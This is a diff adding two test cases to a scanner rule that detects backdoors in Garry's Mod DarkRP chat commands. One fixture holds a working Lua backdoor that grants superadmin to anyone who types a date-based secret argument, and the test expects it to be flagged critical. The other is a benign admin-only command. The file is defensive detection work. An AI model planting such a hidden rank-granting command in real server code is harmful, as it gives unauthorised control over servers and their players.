@@ -115,4 +115,30 @@ describe('chatcommand_backdoor', () => {
     });
     expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
   });
+  it('a DarkRP chat command with a hidden argument that hands out a rank', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_rules.lua': [
+        'hook.Add("DarkRPFinishedLoading", "rules", function()',
+        ' DarkRP.defineChatCommand("rules", function(ply, args)',
+        '  if args == "accept " .. os.date("%d%m") then ply:SetUserGroup("superadmin") end',
+        '  return ""',
+        ' end)',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it('a DarkRP chat command that hands out a rank to admins only', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_rules.lua': [
+        'DarkRP.defineChatCommand("setvip", function(ply, args)',
+        ' if not ply:IsAdmin() then return "" end',
+        ' local target = DarkRP.findPlayer(args)',
+        ' if IsValid(target) then target:SetUserGroup("vip") end',
+        ' return ""',
+        'end)',
+      ].join('\n'),
+    });
+    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
+  });
 });
